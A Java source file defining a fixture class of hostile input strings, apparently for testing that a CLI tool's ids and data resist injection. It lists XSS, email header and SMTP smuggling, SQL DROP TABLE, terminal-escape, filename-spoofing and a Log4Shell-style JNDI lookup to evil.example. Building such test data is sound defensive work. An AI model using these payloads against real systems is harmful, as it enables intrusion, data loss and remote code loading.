package io.pabal.cli.drill;

import java.util.LinkedHashMap;
import java.util.Map;

/** Texts that try to leave their place; pure. */
final class HostileTexts {
  static final String CR_LF = "\r\nBcc: victim@evil.example\r\n\r\ninjected";
  static final String HTML = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><b>";
  static final String NUL = "a\u0000b\u0000";

  private HostileTexts() {}

  /** What breaks an id, by its name for people. */
  static Map<String, String> inIds() {
    Map<String, String> texts = new LinkedHashMap<>();
    texts.put("CR/LF", CR_LF);
    texts.put("U+0000", NUL);
    texts.put("half a surrogate pair", "x\uD800y");
    return texts;
  }

  /** What data may hold and no message may do, by its name for people. */
  static Map<String, String> inData() {
    Map<String, String> texts = new LinkedHashMap<>();
    texts.put("CR/LF", CR_LF);
    texts.put("HTML", HTML);
    texts.put("U+0000", NUL);
    texts.put("half a surrogate pair", "x\uD800y\uDC00");
    texts.put("an attribute's end", "\" onmouseover=\"alert(1)\" x='`=");
    texts.put("template tags", "{{n}}{{{n}}}{{#n}}{{/n}}{{!");
    texts.put("the end of a mail", "\r\n.\r\nMAIL FROM:<victim@evil.example>\r\n..\r\n");
    texts.put("other ends of lines", "a\u000Bb\u000Cc\u0085d\u2028e\u2029f\rg\nh\ti");
    texts.put("words turned around", "\u202Egpj.exe\u2066\u2069\u202C");
    texts.put("escape sequences", "\u001B[2J\u001B]0;owned\u0007\u009B1m\u007F");
    texts.put("an encoded word", "=?utf-8?B?DQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?=");
    texts.put("SQL", "'); DROP TABLE decisions; --");
    texts.put("a lookup", "${jndi:ldap://evil.example/x}%n%s");
    return texts;
  }
}
